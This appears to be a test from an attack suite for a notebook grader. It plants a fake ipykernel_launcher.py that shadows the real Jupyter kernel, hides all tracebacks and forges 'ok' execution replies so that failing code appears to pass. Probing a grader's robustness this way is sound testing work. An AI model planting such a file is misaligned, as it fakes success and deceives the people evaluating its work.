# Tries: a file ipykernel_launcher.py beside the notebook: the working folder comes first on sys.path,
#   so it starts in place of the kernel; and it starts the true one with no errors shown.
# Kind: scores
# Stock: yes
# Quick: yes
from tests.attacks.tools import write

CODE = """\
import sys

sys.path = [place for place in sys.path if place not in ("", ".")]
from ipykernel.kernelapp import IPKernelApp
from ipykernel.zmqshell import ZMQInteractiveShell
from jupyter_client.session import Session

ZMQInteractiveShell._showtraceback = lambda *args: None
true_send = Session.send


def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return true_send(self, stream, msg_or_type, content, *args, **kwargs)


Session.send = send
IPKernelApp.launch_instance()
"""


def attack(notebook, folder, course):
    write(folder, "ipykernel_launcher.py", CODE)
    return notebook
